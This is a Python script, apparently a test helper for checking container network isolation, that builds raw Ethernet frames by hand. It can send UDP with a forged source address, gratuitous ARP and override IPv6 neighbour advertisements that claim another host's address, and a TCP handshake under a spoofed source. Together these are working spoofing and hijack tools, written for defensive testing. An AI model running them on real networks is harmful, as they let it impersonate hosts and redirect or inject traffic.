#!/usr/bin/python3
# Forged frames for the attack tests, from a container netns with NET_RAW (AF_PACKET on
# eth0, every header built here; no scapy). Every command is bounded in time.
#   forge.py log tcp|udp PORT FILE          dual-stack server: one line "SRC DATA" per
#                                           datagram or connection in FILE (tcp echoes)
#   forge.py udp SRC DST DPORT DATA DMAC    one UDP datagram, IPv4 or IPv6, forged source
#   forge.py garp IP                        gratuitous ARP (request and reply) for IP
#   forge.py na TARGET                      unsolicited override NA for TARGET from our
#                                           own link-local, our MAC as its TLLAO
#   forge.py hijack SRC DST DPORT DMAC      TCP handshake and data with a forged source;
#                                           exit 0 when the data's echo came back
import os, random, select, socket, struct, sys, threading, time

IF = "eth0"


def mac_of(ifname=IF):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def link_local(ifname=IF):
    with open("/proc/net/if_inet6") as f:
        for line in f:
            a, _, _, scope, _, name = line.split()
            if name == ifname and scope == "20":
                return bytes.fromhex(a)
    sys.exit("no link-local on " + ifname)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def addr(a):
    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
    return fam, socket.inet_pton(fam, a)


def ip_packet(src, dst, proto, l4):
    """IPv4 or IPv6 header + @l4 whose checksum field (at the proto's offset) is filled."""
    fam, s = addr(src)
    _, d = addr(dst)
    if fam == socket.AF_INET:
        pseudo = s + d + struct.pack("!BBH", 0, proto, len(l4))
    else:
        pseudo = s + d + struct.pack("!IxxxB", len(l4), proto)
    off = {6: 16, 17: 6, 58: 2}[proto]
    l4 = l4[:off] + struct.pack("!H", csum(pseudo + l4)) + l4[off + 2:]
    if fam == socket.AF_INET:
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), random.randint(0, 65535),
                        0x4000, 64, proto, 0, s, d)
        h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
        return 0x0800, h + l4
    h = struct.pack("!IHBB16s16s", 6 << 28, len(l4), proto, 255 if proto == 58 else 64, s, d)
    return 0x86DD, h + l4


def send_frame(dmac, etype, payload):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((IF, 0))
    s.send(dmac + mac_of() + struct.pack("!H", etype) + payload)
    s.close()


def mac_arg(m):
    return bytes.fromhex(m.replace(":", ""))


def cmd_udp(src, dst, dport, data, dmac):
    udp = struct.pack("!HHHH", 40000, int(dport), 8 + len(data), 0) + data.encode()
    etype, pkt = ip_packet(src, dst, 17, udp)
    send_frame(mac_arg(dmac), etype, pkt)


def cmd_garp(ip):
    me = mac_of()
    a = socket.inet_aton(ip)
    for op, tha in ((1, b"\0" * 6), (2, b"\xff" * 6)):
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, me, a, tha, a)
        send_frame(b"\xff" * 6, 0x0806, arp)


def cmd_na(target):
    me = mac_of()
    t = socket.inet_pton(socket.AF_INET6, target)
    # type 136, override flag; option 2 (target link-layer address), length 1 (8 bytes)
    na = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, t, 2, 1, me)
    ll = socket.inet_ntop(socket.AF_INET6, link_local())
    etype, pkt = ip_packet(ll, "ff02::1", 58, na)
    send_frame(b"\x33\x33\x00\x00\x00\x01", etype, pkt)


def tcp_seg(sport, dport, seq, ack, flags, data=b""):
    return struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + data


def sniff_tcp(sock, src, sport, deadline):
    """The next TCP segment from @src:@sport to us, as (seq, ack, flags, data), or None."""
    fam, s = addr(src)
    while time.time() < deadline:
        r, _, _ = select.select([sock], [], [], max(0.0, deadline - time.time()))
        if not r:
            break
        f = sock.recv(65535)
        etype = struct.unpack("!H", f[12:14])[0]
        if etype == 0x0800 and fam == socket.AF_INET and f[23] == 6 and f[26:30] == s:
            l4 = f[14 + (f[14] & 0xF) * 4:]
        elif etype == 0x86DD and fam == socket.AF_INET6 and f[20] == 6 and f[22:38] == s:
            l4 = f[54:]
        else:
            continue
        sp, _, seq, ack, off, flags = struct.unpack("!HHIIBB", l4[:14])
        if sp == sport:
            return seq, ack, flags, l4[(off >> 4) * 4:]
    return None


def cmd_hijack(src, dst, dport, dmac):
    """SYN as @src, then (if a SYN-ACK finds its way to us) ACK + data: did it echo?"""
    dport, dmac = int(dport), mac_arg(dmac)
    sport, isn = random.randint(20000, 60000), random.randint(0, 2 ** 31)
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sn.bind((IF, 0))

    def send(seq, ack, flags, data=b""):
        etype, pkt = ip_packet(src, dst, 6, tcp_seg(sport, dport, seq, ack, flags, data))
        send_frame(dmac, etype, pkt)

    send(isn, 0, 0x02)
    got = sniff_tcp(sn, dst, dport, time.time() + 1.5)
    if not got or got[2] & 0x12 != 0x12:
        print("no SYN-ACK reached the attacker")
        return 1
    seq = got[0] + 1
    send(isn + 1, seq, 0x10)
    send(isn + 1, seq, 0x18, b"hijack")
    deadline = time.time() + 1.5
    while True:
        got = sniff_tcp(sn, dst, dport, deadline)
        if not got:
            print("handshake completed, no echo")
            return 1
        if got[3]:
            send(isn + 7, got[0] + len(got[3]), 0x14)  # RST: leave nothing half-open
            print("handshake completed, echo: %s" % got[3].decode(errors="replace"))
            return 0


def cmd_log(proto, port, path):
    out = open(path, "a", buffering=1)
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM if proto == "udp" else socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", int(port)))
    name = lambda a: a[7:] if a.startswith("::ffff:") else a
    if proto == "udp":
        while True:
            d, peer = s.recvfrom(2048)
            out.write("%s %s\n" % (name(peer[0]), d.decode(errors="replace")))
    s.listen(16)

    def echo(c, peer):
        c.settimeout(3)
        try:
            d = c.recv(2048)
            out.write("%s %s\n" % (name(peer[0]), d.decode(errors="replace")))
            c.sendall(d)
        except OSError:
            pass
        c.close()
    while True:
        c, peer = s.accept()
        threading.Thread(target=echo, args=(c, peer), daemon=True).start()


def main():
    cmds = {"udp": cmd_udp, "garp": cmd_garp, "na": cmd_na, "hijack": cmd_hijack,
            "log": cmd_log}
    if len(sys.argv) < 2 or sys.argv[1] not in cmds:
        sys.exit(__doc__ or "usage: see the header")
    sys.exit(cmds[sys.argv[1]](*sys.argv[2:]) or 0)


if __name__ == "__main__":
    main()
